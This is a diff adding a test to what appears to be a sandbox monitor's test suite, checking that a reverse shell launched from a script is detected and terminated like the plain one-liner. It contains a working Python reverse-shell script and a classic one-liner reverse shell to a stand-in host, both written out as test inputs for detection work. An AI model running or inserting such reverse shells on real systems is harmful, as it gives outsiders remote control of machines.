@@ -335,3 +335,51 @@ async def test_ssh_forward_from_a_script_is_judged_as_the_plain_command(store, t
         assert sb.terminated
     finally:
         await sb.close()
+
+
+REVERSE_PY = r"""
+import os, socket, sys
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(f"CONNECT listener.test:{sys.argv[1]} HTTP/1.1\r\nHost: listener.test\r\n\r\n".encode())
+head = b""
+while b"\r\n\r\n" not in head:
+    head += s.recv(1)
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+os.execv("/bin/sh", ["sh", "-i"])
+"""
+
+
+async def test_reverse_shell_from_a_script_is_judged_as_the_plain_one(make_sandbox):
+    """The shell's output going up the connection gives the category, response and severity the
+    plain one-liner gets from the command rules (dev: reverse_shell -> terminate)."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+    port = listener.getsockname()[1]
+    got = bytearray()
+
+    def attacker() -> None:  # the other end: asks who it is, keeps what comes back
+        with contextlib.suppress(OSError):
+            conn, _ = listener.accept()
+            with conn:
+                conn.sendall(b"id\n")
+                while data := conn.recv(4096):
+                    got.extend(data)
+
+    threading.Thread(target=attacker, daemon=True).start()
+    try:
+        sb = await make_sandbox(network("listener.test", "127.0.0.1"))
+        await sb.write_file("rev.py", REVERSE_PY)
+        await sb.exec(f"python3 rev.py {port}", timeout=20)
+        ev = await wait(sb, "reverse_shell.shell_on_wire")
+        plain = RuleEngine.default().check_command(
+            'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));'
+            '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\''
+        )[0]
+        assert (ev.category, ev.severity) == (plain.category, plain.severity)
+        assert ev.action == "terminated" and ev.dst.port == port
+        await wait(sb, "respond.terminate", source="sandbox")
+        assert sb.terminated and b"uid=" not in bytes(got)  # the answer never reached it
+    finally:
+        listener.close()
